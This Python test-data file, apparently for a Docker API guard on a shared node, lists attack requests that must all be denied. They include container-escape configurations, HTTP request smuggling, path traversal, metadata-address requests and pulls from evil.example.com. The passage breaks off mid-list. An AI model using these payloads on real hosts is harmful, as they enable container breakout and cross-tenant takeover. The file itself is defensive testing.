"""Attacks on the node and on other owners, as requests; none of them may have an effect.

The tests replace names in braces: `{victim}`, `{exec}`, `{volume}`, `{network}` and `{image}` are Bob's objects,
`{raw}` and `{rawvolume}` are a container and a volume that somebody created through the node's own socket, and `{mine}`
is the attacker's container.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Attack:
    """One request.

    Attributes:
        name: what it tries.
        method: HTTP method.
        target: path and query.
        body: JSON, or bytes.
        headers: in addition to the usual ones.
        raw: the whole request as bytes, instead of the other attributes.
        harmless: it may succeed, as long as it changes nothing and reveals nothing.
        needs_daemon: the guard recognizes it only by the daemon's state.
    """

    name: str
    method: str = "POST"
    target: str = "/v1.45/containers/create"
    body: Any = None
    headers: dict[str, str] = field(default_factory=dict)
    raw: bytes | None = None
    harmless: bool = False
    needs_daemon: bool = False


def _create(name: str, host: Any = None, **more: Any) -> Attack:
    body = {"Image": "busybox", "Cmd": ["sleep", "60"], **more}
    return Attack(f"create: {name}", body=body if host is None else {**body, "HostConfig": host})


def _text(name: str, text: str) -> Attack:
    return Attack(f"body: {name}", body=text.encode())


def _bind(source: str) -> dict[str, Any]:
    return {"Type": "bind", "Source": source, "Target": "/host"}


HOST_CONFIG: list[tuple[str, Any]] = [
    ("privileged", {"Privileged": True}),
    ("bind of the root", {"Binds": ["/:/host"]}),
    ("bind read-only", {"Binds": ["/etc:/host:ro"]}),
    ("bind of the socket", {"Binds": ["/var/run/docker.sock:/s"]}),
    ("bind with dots", {"Binds": ["/tmp/../etc:/host"]}),
    ("bind by a relative path", {"Binds": ["../etc:/host"]}),
    ("bind by a dot", {"Binds": [".:/host"]}),
    ("bind with slashes", {"Binds": ["//etc:/host"]}),
    ("bind with a volume's name that is a path", {"Binds": ["a/../../etc:/host"]}),
    ("bind with propagation", {"Binds": ["/tmp:/host:rshared"]}),
    ("bind with an option", {"Binds": ["x1:/host:o=bind"]}),
    ("bind as a text", {"Binds": "/:/host"}),
    ("mount of the root", {"Mounts": [_bind("/")]}),
    ("mount that is made", {"Mounts": [{**_bind("/new"), "BindOptions": {"CreateMountpoint": True}}]}),
    ("mount with propagation", {"Mounts": [{**_bind("/"), "BindOptions": {"Propagation": "rshared"}}]}),
    ("mount without a type", {"Mounts": [{"Source": "/", "Target": "/host"}]}),
    ("mount of a type in capitals", {"Mounts": [{**_bind("/"), "Type": "BIND"}]}),
    ("mount with keys in lower case", {"Mounts": [{"type": "bind", "source": "/", "target": "/host"}]}),
    ("mount of a pipe", {"Mounts": [{"Type": "npipe", "Source": "/", "Target": "/host"}]}),
    ("mount of a cluster's volume", {"Mounts": [{"Type": "cluster", "Source": "x", "Target": "/host"}]}),
    (
        "volume that is a bind",
        {
            "Mounts": [
                {
                    "Type": "volume",
                    "Target": "/host",
                    "VolumeOptions": {
                        "DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
                    },
                }
            ]
        },
    ),
    (
        "volume by a plugin",
        {"Mounts": [{"Type": "volume", "Target": "/h", "VolumeOptions": {"DriverConfig": {"Name": "rexray"}}}]},
    ),
    (
        "volume with a forged label",
        {"Mounts": [{"Type": "volume", "Target": "/h", "VolumeOptions": {"Labels": {"nesteddocker.dev/uid": "x"}}}]},
    ),
    (
        "volume's subpath that climbs",
        {"Mounts": [{"Type": "volume", "Source": "own1", "Target": "/h", "VolumeOptions": {"Subpath": "../.."}}]},
    ),
    ("volume's source that is a path", {"Mounts": [{"Type": "volume", "Source": "/etc", "Target": "/host"}]}),
    ("tmpfs with options", {"Mounts": [{"Type": "tmpfs", "Target": "/t", "TmpfsOptions": {"Options": [["dev"]]}}]}),
    ("tmpfs option", {"Tmpfs": {"/t": "size=1m,bind"}}),
    ("volume driver", {"VolumeDriver": "rexray"}),
    ("network of the node", {"NetworkMode": "host"}),
    ("network by namespace", {"NetworkMode": "ns:/proc/1/ns/net"}),
    ("processes of the node", {"PidMode": "host"}),
    ("shared memory of the node", {"IpcMode": "host"}),
    ("host name of the node", {"UTSMode": "host"}),
    ("users of the node", {"UsernsMode": "host"}),
    ("cgroups of the node", {"CgroupnsMode": "host"}),
    ("cgroup", {"Cgroup": "host"}),
    ("all capabilities", {"CapAdd": ["ALL"]}),
    ("a capability", {"CapAdd": ["SYS_ADMIN"]}),
    ("a capability with its prefix", {"CapAdd": ["CAP_SYS_ADMIN"]}),
    ("a capability in lower case", {"CapAdd": ["sys_admin"]}),
    ("a capability as a text", {"CapAdd": "SYS_ADMIN"}),
    ("the old list of capabilities", {"Capabilities": ["CAP_SYS_ADMIN"]}),
    ("a device", {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}]}),
    ("a directory of devices", {"Devices": [{"PathOnHost": "/dev"}]}),
    ("device rules", {"DeviceCgroupRules": ["b *:* rwm"]}),
    ("device requests", {"DeviceRequests": [{"Driver": "nvidia", "Count": -1, "Capabilities": [["gpu"]]}]}),
    ("no seccomp", {"SecurityOpt": ["seccomp=unconfined"]}),
    ("no apparmor", {"SecurityOpt": ["apparmor=unconfined"]}),
    ("no selinux", {"SecurityOpt": ["label=disable"]}),
    ("paths of the system", {"SecurityOpt": ["systempaths=unconfined"]}),
    ("new privileges", {"SecurityOpt": ["no-new-privileges=false"]}),
    ("nothing masked", {"MaskedPaths": []}),
    ("nothing read-only", {"ReadonlyPaths": []}),
    ("something else masked", {"MaskedPaths": ["/x"]}),
    ("cgroup parent", {"CgroupParent": "/"}),
    ("cgroup parent that climbs", {"CgroupParent": "../../system.slice"}),
    ("a runtime", {"Runtime": "io.containerd.runc.v2"}),
    ("a kernel parameter", {"Sysctls": {"net.ipv4.ip_forward": "1"}}),
    ("a kernel parameter of the node", {"Sysctls": {"kernel.core_pattern": "|/x"}}),
    ("out of memory last", {"OomScoreAdj": -1000}),
    ("out of memory never", {"OomKillDisable": True}),
    ("real time", {"CpuRealtimeRuntime": 95000}),
    ("a log driver", {"LogConfig": {"Type": "syslog", "Config": {"syslog-address": "tcp://10.0.0.1:514"}}}),
    ("a log driver's option", {"LogConfig": {"Type": "", "Config": {"gelf-address": "udp://10.0.0.1:1"}}}),
    ("a port of the node", {"PortBindings": {"80/tcp": [{"HostPort": "8080"}]}}),
    ("a range of ports", {"PortBindings": {"80/tcp": [{"HostPort": "1-65535"}]}}),
    ("a port with a blank", {"PortBindings": {"80/tcp": [{"HostPort": " 80"}]}}),
    ("an address of the node", {"PortBindings": {"80/tcp": [{"HostIp": "10.0.0.1"}]}}),
    ("groups", {"GroupAdd": ["docker", "0"]}),
    ("links", {"Links": ["{raw}:raw"]}),
    ("annotations", {"Annotations": {"run.oci.handler": "x"}}),
    ("the annotation of an owner", {"Annotations": {"nesteddocker.dev/uid": "x"}}),
    ("annotations in lower case", {"annotations": {"nesteddocker.dev/uid": "x"}}),
    ("storage options", {"StorageOpt": {"size": "10T"}}),
    ("block devices", {"BlkioWeightDevice": [{"Path": "/dev/sda", "Weight": 10}]}),
    ("throttles", {"BlkioDeviceReadBps": [{"Path": "/dev/sda", "Rate": 1}]}),
    ("locked memory", {"Ulimits": [{"Name": "memlock", "Soft": -1, "Hard": -1}]}),
    ("isolation", {"Isolation": "process"}),
    ("a key in lower case", {"privileged": True}),
    ("a key in capitals", {"PRIVILEGED": True}),
    ("a key with a long s", {"Bind\u017f": ["/:/host"]}),
    ("a key with a kelvin sign", {"Networ\u212aMode": "host"}),
    ("a key of tomorrow", {"HostRoot": True}),
    ("a list for an object", [{"Privileged": True}]),
    ("a text for a truth", {"Privileged": "true"}),
    ("a number for a truth", {"Privileged": 1}),
]

BODIES: list[tuple[str, str]] = [
    ("the same key twice", '{"Image":"busybox","HostConfig":{"Privileged":false,"Privileged":true}}'),
    ("the same key, escaped", '{"Image":"busybox","HostConfig":{"Privileged":false,"Privilege\\u0064":true}}'),
    ("the same key in lower case", '{"Image":"busybox","HostConfig":{"Privileged":false,"privileged":true}}'),
    ("two HostConfigs", '{"Image":"busybox","HostConfig":{},"HostConfig":{"Privileged":true}}'),
    ("a shadow", '{"Image":"busybox","HostConfig":{},"hostconfig":{"Privileged":true}}'),
    ("a shadow with a long s", '{"Image":"busybox","HostConfig":{},"Ho\u017ftConfig":{"Privileged":true}}'),
    ("two documents", '{"Image":"busybox"}{"Image":"busybox","HostConfig":{"Privileged":true}}'),
    ("a byte order mark", '\ufeff{"Image":"busybox","HostConfig":{"Privileged":true}}'),
    ("not a number", '{"Image":"busybox","HostConfig":{"Memory":NaN}}'),
    ("depth", '{"Image":"busybox","HostConfig":' + '{"a":' * 5000 + "1" + "}" * 5000 + "}"),
    ("an array", '[{"Image":"busybox","HostConfig":{"Privileged":true}}]'),
    ("comments", '{"Image":"busybox",/**/"HostConfig":{"Privileged":true}}'),
    ("size", '{"Image":"busybox","HostConfig":{"Privileged":true},"Env":["' + "a" * 2**20 + '"]}'),
    ("half of a character", '{"Image":"busybox","Cmd":["\\ud800"],"HostConfig":{"Privileged":true}}'),
    ("nothing", ""),
]

CONFIG: list[tuple[str, dict[str, Any]]] = [
    ("binds at the top", {"Binds": ["/:/host"]}),
    ("privileged at the top", {"Privileged": True}),
    ("network mode at the top", {"NetworkMode": "host"}),
    ("mounts at the top", {"Mounts": [_bind("/")]}),
    ("a bind among the volumes", {"Volumes": {"/etc:/host": {}}}),
    ("a relative volume", {"Volumes": {"etc": {}}}),
    ("a forged owner", {"Labels": {"nesteddocker.dev/uid": "x"}}),
    ("a forged owner in capitals", {"Labels": {"NestedDocker.dev/UID": "x"}}),
    ("no image", {"Image": ""}),
    ("an image that is a path", {"Image": "../../containers/json"}),
    ("an image that is a query", {"Image": "busybox/json?x="}),
    ("the node's network by settings", {"NetworkingConfig": {"EndpointsConfig": {"host": {}}}}),
    ("an endpoint's options", {"NetworkingConfig": {"EndpointsConfig": {"bridge": {"DriverOpts": {"a": "b"}}}}}),
    ("an endpoint's links", {"NetworkingConfig": {"EndpointsConfig": {"bridge": {"Links": ["{raw}:raw"]}}}}),
    ("a key of networking", {"NetworkingConfig": {"endpointsConfig": {"host": {}}}}),
]

FOREIGN_IN_CREATE: list[tuple[str, Any]] = [
    ("volumes of a foreign container", {"VolumesFrom": ["{victim}"]}),
    ("volumes of the node's container", {"VolumesFrom": ["{raw}:ro"]}),
    ("network of a foreign container", {"NetworkMode": "container:{victim}"}),
    ("processes of a foreign container", {"PidMode": "container:{victim}"}),
    ("memory of a foreign container", {"IpcMode": "container:{raw}"}),
    ("a foreign volume", {"Binds": ["{volume}:/v"]}),
    ("the node's volume", {"Binds": ["{rawvolume}:/v:ro"]}),
    ("a foreign volume, mounted", {"Mounts": [{"Type": "volume", "Source": "{volume}", "Target": "/v"}]}),
    ("a foreign image, mounted", {"Mounts": [{"Type": "image", "Source": "{image}", "Target": "/v"}]}),
    ("a foreign network", {"NetworkMode": "{network}"}),
]

OTHERS: list[tuple[str, str, str, Any]] = [
    *(
        (f"container: {verb}", "POST", f"/containers/{{victim}}/{verb}", None)
        for verb in ("start", "stop", "restart", "kill", "pause", "unpause", "wait", "attach", "resize?h=1&w=1")
    ),
    ("container: its name", "POST", "/containers/create?name={victimname}", {"Image": "busybox"}),
    *(
        (f"container: {what}", "GET", f"/containers/{{victim}}/{what}", None)
        for what in ("json", "top", "logs?stdout=1", "changes", "export", "stats?stream=0", "archive?path=/etc/passwd")
    ),
    ("container: by a part of its id", "GET", "/containers/{victimpart}/json", None),
    ("container: by its name", "GET", "/containers/{victimname}/json", None),
    ("container: head of an archive", "HEAD", "/containers/{victim}/archive?path=/etc/passwd", None),
    ("container: an archive into it", "PUT", "/containers/{victim}/archive?path=/", b"\0" * 1024),
    ("container: rename", "POST", "/containers/{victim}/rename?name=stolen", None),
    ("container: update", "POST", "/containers/{victim}/update", {"Memory": 8388608}),
    ("container: exec", "POST", "/containers/{victim}/exec", {"Cmd": ["id"], "AttachStdout": True}),
    ("container: delete", "DELETE", "/containers/{victim}?force=1", None),
    ("container: commit", "POST", "/commit?container={victim}&repo=localhost/x&tag=y", None),
    ("container: by web socket", "GET", "/containers/{victim}/attach/ws?stream=1", None),
    ("node's container: exec", "POST", "/containers/{raw}/exec", {"Cmd": ["id"]}),
    ("node's container: delete", "DELETE", "/containers/{raw}?force=1&v=1", None),
    ("node's container: look", "GET", "/containers/{raw}/json", None),
    ("exec: start", "POST", "/exec/{exec}/start", {"Detach": True}),
    ("exec: look", "GET", "/exec/{exec}/json", None),
    ("exec: resize", "POST", "/exec/{exec}/resize?h=1&w=1", None),
    ("volume: look", "GET", "/volumes/{volume}", None),
    ("volume: delete", "DELETE", "/volumes/{volume}?force=1", None),
    ("volume: take over", "POST", "/volumes/create", {"Name": "{volume}"}),
    ("node's volume: delete", "DELETE", "/volumes/{rawvolume}", None),
    ("network: look", "GET", "/networks/{network}", None),
    ("network: delete", "DELETE", "/networks/{network}", None),
    ("network: connect the attacker's container", "POST", "/networks/{network}/connect", {"Container": "{mine}"}),
    (
        "network: connect by the ID of a foreign network",
        "POST",
        "/networks/mine/connect",
        {"Container": "{mine}", "EndpointConfig": {"NetworkID": "{network}"}},
    ),
    ("network: connect a foreign container", "POST", "/networks/bridge/connect", {"Container": "{victim}"}),
    ("network: disconnect", "POST", "/networks/bridge/disconnect", {"Container": "{victim}", "Force": True}),
    ("network: delete the node's", "DELETE", "/networks/bridge", None),
    ("network: look at the node's", "GET", "/networks/host", None),
    ("image: look", "GET", "/images/{image}/json", None),
    ("image: history", "GET", "/images/{image}/history", None),
    ("image: save", "GET", "/images/{image}/get", None),
    ("image: save several", "GET", "/images/get?names=busybox&names={image}", None),
    ("image: delete", "DELETE", "/images/{image}?force=1", None),
    ("image: delete everyone's", "DELETE", "/images/busybox:latest?force=1", None),
    ("image: tag it", "POST", "/images/{image}/tag?repo=localhost/mine&tag=x", None),
    ("image: tag over it", "POST", "/images/busybox/tag?repo={imagerepo}&tag={imagetag}", None),
    ("image: build over it", "POST", "/build?t={image}", b"\0" * 1024),
    ("image: a container of it", "POST", "/containers/create", {"Image": "{image}"}),
    ("image: a tag that stays on everyone's", "POST", "/images/busybox/tag?repo=localhost/stays&tag=1", None),
    (
        "more names than are looked up, of volumes",
        "POST",
        "/containers/create",
        {"Image": "busybox", "HostConfig": {"Binds": [f"many{number}x:/m{number}" for number in range(64)]}},
    ),
    (
        "more names than are looked up, of images",
        "POST",
        f"/build?{'&'.join(f't=localhost/{number}' for number in range(65))}",
        b"\0" * 1024,
    ),
]

RULED: list[tuple[str, str, str, Any]] = [
    ("tag over everyone's image", "POST", "/images/busybox/tag?repo=busybox&tag=latest", None),
    ("tag with a name of others'", "POST", "/images/busybox/tag?repo=docker.io/library/alpine&tag=3", None),
    ("commit with changes", "POST", "/commit?container={mine}&changes=LABEL+nesteddocker.dev/uid%3Dx", None),
    ("commit with a configuration", "POST", "/commit?container={mine}", {"Labels": {"nesteddocker.dev/uid": "x"}}),
    ("pull", "POST", "/images/create?fromImage=evil.example.com/x&tag=latest", None),
    ("pull all tags", "POST", "/images/create?fromImage=busybox", None),
    ("import by URL", "POST", "/images/create?fromSrc=http://169.254.169.254/&repo=localhost/x", None),
    ("import of an archive", "POST", "/images/create?fromSrc=-&repo=busybox", None),
    ("load", "POST", "/images/load", b"\0" * 1024),
    ("push", "POST", "/images/busybox/push?tag=latest", None),
    ("search", "GET", "/images/search?term=169.254.169.254/x", None),
    ("log in", "POST", "/auth", {"serveraddress": "http://169.254.169.254"}),
    ("ask a registry", "GET", "/distribution/169.254.169.254/x/json", None),
    ("build in the node's network", "POST", "/build?networkmode=host", b"\0" * 1024),
    ("build in a foreign network", "POST", "/build?networkmode=container:{victim}", b"\0" * 1024),
    ("build from afar", "POST", "/build?remote=http://169.254.169.254/", None),
    ("build with BuildKit", "POST", "/build?version=2&session=x", b"\0" * 1024),
    ("build by a session's context", "POST", "/build?remote=client-session&version=2", None),
    ("build in a cgroup", "POST", "/build?cgroupparent=/", b"\0" * 1024),
    ("build with outputs", "POST", "/build?outputs=%5B%7B%22Type%22%3A%22local%22%7D%5D", b"\0" * 1024),
    ("build with a forged label", "POST", "/build?labels=%7B%22nesteddocker.dev/uid%22%3A%22x%22%7D", b"\0" * 1024),
    ("build with security options", "POST", "/build?securityopt=%5B%22seccomp%3Dunconfined%22%5D", b"\0" * 1024),
    ("build with two labels", "POST", "/build?labels=%7B%7D&labels=%7B%22a%22%3A%22b%22%7D", b"\0" * 1024),
    ("empty the build cache", "POST", "/build/prune?all=1", None),
    ("session", "POST", "/session", None),
    ("grpc", "POST", "/grpc", None),
    ("build cancel", "POST", "/build/cancel?id=x", None),
    ("privileged exec", "POST", "/containers/{mine}/exec", {"Cmd": ["id"], "Privileged": True}),
    ("privileged exec by its case", "POST", "/containers/{mine}/exec", {"Cmd": ["id"], "privileged": True}),
    ("start with a configuration", "POST", "/containers/{mine}/start", {"Binds": ["/:/host"], "Privileged": True}),
    ("start of old with a configuration", "POST", "/v1.23/containers/{mine}/start", {"Privileged": True}),
    ("update of devices", "POST", "/containers/{mine}/update", {"Devices": [{"PathOnHost": "/dev/sda"}]}),
    ("update of device rules", "POST", "/containers/{mine}/update", {"DeviceCgroupRules": ["a *:* rwm"]}),
    ("update of the cgroup", "POST", "/containers/{mine}/update", {"CgroupParent": "/"}),
    ("ps with arguments", "GET", "/containers/{mine}/top?ps_args=-eo+pid%3DPID,args", None),
    ("ps with everybody's environment", "GET", "/containers/{mine}/top?ps_args=e+-eo+lstart,pid,args", None),
    ("ps with two styles", "GET", "/containers/{mine}/top?ps_args=-ef+e", None),
    ("ps of all terminals with environments", "GET", "/containers/{mine}/top?ps_args=axe", None),
    ("a stop that takes a day", "POST", "/containers/{mine}/stop?t=86400", None),
    ("a restart without an end", "POST", "/containers/{mine}/restart?t=-1", None),
    ("the kubelet's name", "POST", "/containers/{mine}/rename?name=k8s_POD_a_b_c_0", None),
    (
        "the node's devices by exec",
        "POST",
        "/containers/{mine}/exec",
        {"Cmd": ["id"], "Env": ["NVIDIA_VISIBLE_DEVICES=all"]},
    ),
    (
        "a volume of a swarm's",
        "POST",
        "/volumes/create",
        {"Name": "sw1", "Labels": {"com.docker.swarm.service.id": "x"}},
    ),
    (
        "a network of the kubelet's",
        "POST",
        "/networks/create",
        {"Name": "kn1", "Labels": {"io.kubernetes.pod.name": "x"}},
    ),
    (
        "a volume that is a bind",
        "POST",
        "/volumes/create",
        {"Name": "bind1", "DriverOpts": {"type": "none", "o": "bind", "device": "/"}},
    ),
    ("a volume by NFS", "POST", "/volumes/create", {"Driver": "local", "DriverOpts": {"type": "nfs", "o": "addr=x"}}),
    ("a volume by a plugin", "POST", "/volumes/create", {"Name": "plug1", "Driver": "rexray"}),
    (
        "a volume with a forged owner",
        "POST",
        "/volumes/create",
        {"Name": "forged1", "Labels": {"nesteddocker.dev/uid": "x"}},
    ),
    ("a volume's name that climbs", "POST", "/volumes/create", {"Name": "../../etc"}),
    ("a network on the node's wires", "POST", "/networks/create", {"Name": "mac1", "Driver": "macvlan"}),
    ("a network that is the node's", "POST", "/networks/create", {"Name": "host1", "Driver": "host"}),
    (
        "a network with the node's bridge",
        "POST",
        "/networks/create",
        {"Name": "br1", "Options": {"com.docker.network.bridge.name": "docker0"}},
    ),
    (
        "a network with the node's addresses",
        "POST",
        "/networks/create",
        {"Name": "sub1", "IPAM": {"Config": [{"Subnet": "10.0.0.0/8"}]}},
    ),
    ("a network from a configuration", "POST", "/networks/create", {"Name": "cfg1", "ConfigFrom": {"Network": "host"}}),
    ("a swarm's network", "POST", "/networks/create", {"Name": "ov1", "Driver": "overlay", "Scope": "swarm"}),
    (
        "a network with a forged owner",
        "POST",
        "/networks/create",
        {"Name": "own1", "Labels": {"nesteddocker.dev/uid": "x"}},
    ),
    ("swarm", "POST", "/swarm/init", {"ListenAddr": "0.0.0.0"}),
    ("swarm, left", "POST", "/swarm/leave?force=1", None),
    (
        "a service on the node's network",
        "POST",
        "/services/create",
        {"Name": "s", "TaskTemplate": {"Networks": [{"Target": "host"}]}},
    ),
    ("a secret", "POST", "/secrets/create", {"Name": "s", "Data": "eA=="}),
    ("a configuration", "POST", "/configs/create", {"Name": "s", "Data": "eA=="}),
    ("nodes", "GET", "/nodes", None),
    ("tasks", "GET", "/tasks", None),
    ("a plugin", "POST", "/plugins/pull?remote=evil.example.com/x", [{"Name": "mount", "Value": ["/"]}]),
    ("a plugin from a tar", "POST", "/plugins/create?name=x", b"\0" * 1024),
    ("a plugin's privileges", "GET", "/plugins/privileges?remote=evil.example.com/x", None),
    ("plugins", "GET", "/plugins", None),
    ("a checkpoint", "POST", "/containers/{mine}/checkpoints", {"CheckpointID": "c", "CheckpointDir": "/etc"}),
    ("the daemon's inside", "GET", "/debug/pprof/heap", None),
    ("the daemon's variables", "GET", "/debug/vars", None),
    ("the daemon's counters", "GET", "/metrics", None),
    ("an old copy", "POST", "/containers/{mine}/copy", {"Resource": "/etc"}),
    (
        "a filter by another's container",
        "GET",
        "/containers/json?filters=%7B%22since%22%3A%5B%22{victim}%22%5D%7D",
        None,
    ),
    ("a filter that is not known", "GET", "/events?filters=%7B%22daemon%22%3A%5B%22x%22%5D%7D", None),
    (
        "prune with a filter of labels that are not",
        "POST",
        "/containers/prune?filters=%7B%22Label%22%3A%5B%22x%22%5D%7D",
        None,
    ),
]

TARGETS = [
    "/v1.45/../containers/{victim}/json",
    "/containers/./{victim}/json",
    "/containers//{victim}/json",
    "//containers/{victim}/json",
    "/%63ontainers/{victim}/json",
    "/containers%2f{victim}%2fjson",
    "/containers/x%2f..%2f{victim}/json",
    "/containers/%252e%252e/{victim}/json",
    "/containers/{victim}/json;x=y",
    "/containers;x/{victim}/json",
    "/containers/{victim}/json/",
    "/v1.45.1/containers/{victim}/json",
    "/v1.45/v1.45/containers/{victim}/json",
    "/V1.45/containers/{victim}/json",
    "/v9.99/containers/{victim}/json",
    "http://docker/containers/{victim}/json",
    "/containers/{victim}\\json",
    "/_ping/../containers/{victim}/json",
    "/images/x/json/../../containers/{victim}/json",
    "/containers/{victim}/json#/_ping",
    "/containers/{mine}/../{victim}/json",
    "/images/busybox/../../containers/{victim}/json",
    "/containers/{victim}%00/json",
    "/CONTAINERS/{victim}/json",
]

HARMLESS: list[tuple[str, str, str]] = [
    ("list of containers", "GET", "/containers/json?all=1"),
    (
        "list of containers with a forged label",
        "GET",
        "/containers/json?all=1&filters=%7B%22label%22%3A%5B%22nesteddocker.dev/uid%3D{bob}%22%5D%7D",
    ),
    (
        "list of containers by name",
        "GET",
        "/containers/json?all=1&filters=%7B%22name%22%3A%7B%22victim%22%3Atrue%7D%7D",
    ),
    ("list of volumes", "GET", "/volumes"),
    ("list of networks", "GET", "/networks"),
    ("list of images", "GET", "/images/json?all=1"),
    ("disk usage", "GET", "/system/df"),
    ("information", "GET", "/info"),
    ("events of the past", "GET", "/events?since=0&until=1700000000"),
    ("events of a container", "GET", "/events?since=0&until=1&filters=%7B%22container%22%3A%5B%22{victim}%22%5D%7D"),
    ("events with follow", "GET", "/events?since=0&until=1"),
    ("the shared network", "GET", "/networks/bridge"),
    ("prune of containers", "POST", "/containers/prune"),
    (
        "prune with a forged label",
        "POST",
        "/containers/prune?filters=%7B%22label%22%3A%5B%22nesteddocker.dev/uid%3D{bob}%22%5D%7D",
    ),
    ("prune of volumes", "POST", "/volumes/prune?filters=%7B%22all%22%3A%5B%22true%22%5D%7D"),
    ("prune of networks", "POST", "/networks/prune"),
    ("prune of images", "POST", "/images/prune?filters=%7B%22dangling%22%3A%5B%22false%22%5D%7D"),
]

_EVIL = json.dumps({"Image": "busybox", "HostConfig": {"Privileged": True}}).encode()
_HIDDEN = (
    b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
    + str(len(_EVIL)).encode()
    + b"\r\n\r\n"
    + _EVIL
)
_LENGTH = str(len(_HIDDEN)).encode()

RAW: list[tuple[str, bytes]] = [
    (
        "length and chunks",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    ),
    (
        "chunks and length",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Length: " + _LENGTH + b"\r\n\r\n0\r\n\r\n" + _HIDDEN,
    ),
    (
        "two lengths",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: "
        + _LENGTH
        + b"\r\n\r\n"
        + _HIDDEN,
    ),
    (
        "a length with a sign",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nContent-Length: +" + _LENGTH + b"\r\n\r\n" + _HIDDEN,
    ),
    (
        "a body where none belongs",
        b"GET /_ping HTTP/1.1\r\nHost: x\r\nContent-Length: " + _LENGTH + b"\r\n\r\n" + _HIDDEN,
    ),
    ("pipelined", b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n" + _HIDDEN),
    (
        "chunks of another kind",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n" + _HIDDEN,
    ),
    (
        "chunks twice",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    ),
    (
        "a blank before the colon",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    ),
    (
        "a folded header",
        b"POST /containers/prune HTTP/1.1\r\nHost: x\r\nContent-Length:\r\n " + _LENGTH + b"\r\n\r\n" + _HIDDEN,
    ),
    ("chunks by HTTP/1.0", b"POST /containers/prune HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _HIDDEN),
    ("HTTP/0.9", b"GET /containers/json\r\n\r\n" + _HIDDEN),
    ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _HIDDEN),
    ("two hosts", b"GET /_ping HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n" + _HIDDEN),
    (
        "a form for a body",
        b"POST /build?t=localhost/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-"
        b"urlencoded\r\nContent-Length: 16\r\n\r\nnetworkmode=host",
    ),
    (
        "an upgrade of anything",
        b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n" + _HIDDEN,
    ),
    (
        "an upgrade to HTTP/2",
        b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + _HIDDEN,
    ),
    (
        "an expectation",
        b"POST /containers/create HTTP/1.1\r\nHost: x\r\nExpect: 200-ok\r\nContent-Length: "
        + str(len(_EVIL)).encode()
        + b"\r\n\r\n"
        + _EVIL,
    ),
    (
        "an encoded body",
        b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: "
        + str(len(_EVIL)).encode()
        + b"\r\n\r\n"
        + _EVIL,
    ),
    ("a method in lower case", b"post /containers/prune HTTP/1.1\r\nHost: x\r\n\r\n" + _HIDDEN),
    ("a method by a header", b"GET /_ping HTTP/1.1\r\nHost: x\r\nX-HTTP-Method-Override: POST\r\n\r\n" + _HIDDEN),
    (
        "a body of no length",
        b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n" + _EVIL,
    ),
    ("NUL in a header", b"GET /_ping HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n" + _HIDDEN),
    ("a head without an end", b"GET /_ping HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 200_000 + b"\r\n\r\n" + _HIDDEN),
    (
        "a chunk's size of nothing",
        b"POST /containers/create HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n" + _EVIL,
    ),
    (
        "chunks of a document",
        b"POST /containers/create HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        + f"{len(_EVIL):x}".encode()
        + b"\r\n"
        + _EVIL
        + b"\r\n0\r\n\r\n",
    ),
]
"""All but the first request of each must be denied; the first may at most get a response."""

LANGUAGES: list[tuple[str, str, str, Any]] = [
    ("signal", "POST", "/containers/{mine}/kill?signal=KILL%3Bx", None),
    ("keys to detach", "POST", "/containers/{mine}/exec", {"Cmd": ["true"], "DetachKeys": "ctrl-"}),
    ("lines of a log", "GET", "/containers/{mine}/logs?stdout=1&tail=all%0A", None),
    ("time of events", "GET", "/events?since=0&until=tomorrow", None),
    ("filter by a state", "GET", "/containers/json?filters=%7B%22status%22%3A%5B%22up%22%5D%7D", None),
    ("filter by ports", "GET", "/containers/json?filters=%7B%22publish%22%3A%5B%220-65535%22%5D%7D", None),
    ("Dockerfile of the node", "POST", "/build?dockerfile=..%2F..%2Fetc%2Fpasswd", None),
    ("platform", "POST", "/images/create?fromImage=busybox&tag=1&platform=linux%28x%29", None),
    ("CPUs of an update", "POST", "/containers/{mine}/update", {"CpusetCpus": "0-4294967295"}),
]
"""Texts of small languages that other programs parse."""

LANGUAGES_IN_CREATE: list[tuple[str, Any]] = [
    ("resolver with another line", {"Dns": ["1.1.1.1\nnameserver 10.0.0.1"]}),
    ("resolver option with another", {"DnsOptions": ["ndots:2 timeout:9"]}),
    ("search domain with another", {"DnsSearch": ["a b"]}),
    ("host entry with another line", {"ExtraHosts": ["a:10.0.0.1\n10.0.0.2 registry"]}),
